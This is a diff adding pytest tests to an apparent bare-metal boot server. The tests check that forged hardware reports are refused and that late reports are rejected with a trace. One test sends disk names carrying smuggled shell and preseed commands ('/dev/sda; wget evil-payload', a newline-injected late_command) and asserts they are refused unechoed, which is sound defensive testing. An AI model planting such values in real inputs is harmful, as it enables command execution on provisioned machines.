@@ -5,6 +5,7 @@ the token is issued and nothing calls back, which is what these checks need."""
 
 from __future__ import annotations
 
+import json
 import subprocess
 from pathlib import Path
 
@@ -12,7 +13,7 @@ import pytest
 
 from support.bmcsim import SimControl
 from support.bootserver import BootServerProcess
-from support.hosts import boot_token, create_booting_host, state
+from support.hosts import boot_token, create_booting_host, state, status
 from support.kube import Kube
 from support.operator_process import OperatorProcess
 from support.waiting import wait_for
@@ -175,3 +176,42 @@ def test_no_token_lands_in_the_boot_server_log(bootserver: BootServerProcess, in
     assert "GET /v1/hosts/" in log  # the access log is on, and it is the one being checked
     for token in inspecting.values():
         assert token not in log
+
+
+def test_a_report_cannot_inject_and_a_422_does_not_echo_it(
+    bootserver: BootServerProcess, inspecting: dict[str, str]
+) -> None:
+    """Issue 16 #3 and the 422 body: a disk name with shell or preseed syntax is refused, unquoted."""
+    url = f"{bootserver.url}/v1/hosts/{path(MAC_A)}/report"
+    auth = ("-u", f"{path(MAC_A)}:{inspecting[MAC_A]}", "-H", "Content-Type: application/json")
+    for name in ("/dev/sda; wget evil-payload", "/dev/sda\nd-i preseed/late_command string evil-payload"):
+        forged = {"event": "inspected", "hardware": {"disks": [{"name": name}]}, "evil-payload": 1}
+        code, body = curl(url, *auth, "-d", json.dumps(forged))
+        assert code == 422, body
+        assert b"disks.0.name" in body
+        assert b"evil-payload" not in body
+
+
+def test_a_report_after_the_job_ended_is_refused_with_a_trace_on_the_host(
+    bootserver: BootServerProcess, inspecting: dict[str, str], kube: Kube, namespace: str
+) -> None:
+    """Issue 16 #3: whoever sent the first final report, the real node's later one is not silently lost."""
+    url = f"{bootserver.url}/v1/hosts/{path(MAC_A)}/report"
+    auth = ("-u", f"{path(MAC_A)}:{inspecting[MAC_A]}", "-H", "Content-Type: application/json")
+    report = {"event": "inspected", "hardware": {"disks": [{"name": "/dev/sda", "sizeBytes": 10**12}]}}
+    assert curl(url, *auth, "-d", json.dumps(report))[0] == 200  # first (say, forged) report
+    wait_for(
+        lambda: (status(kube, namespace, "boot-a").get("bootReport") or {}).get("step") == "inspected",
+        TIMEOUT,
+        "the report",
+    )
+    # The real node, later: refused (once the boot server has seen the first report), with a trace.
+    wait_for(lambda: curl(url, *auth, "-d", json.dumps(report))[0] == 409, TIMEOUT, "the late report refused")
+    boot_report = wait_for(
+        lambda: (r := status(kube, namespace, "boot-a").get("bootReport") or {}).get("refused") and r,
+        TIMEOUT,
+        "the refusal on the host",
+    )
+    assert boot_report["source"] == "127.0.0.1"
+    assert "from 127.0.0.1" in boot_report["lastRefused"]
+    assert "'inspected' from 127.0.0.1 had ended the job" in boot_report["lastRefused"]
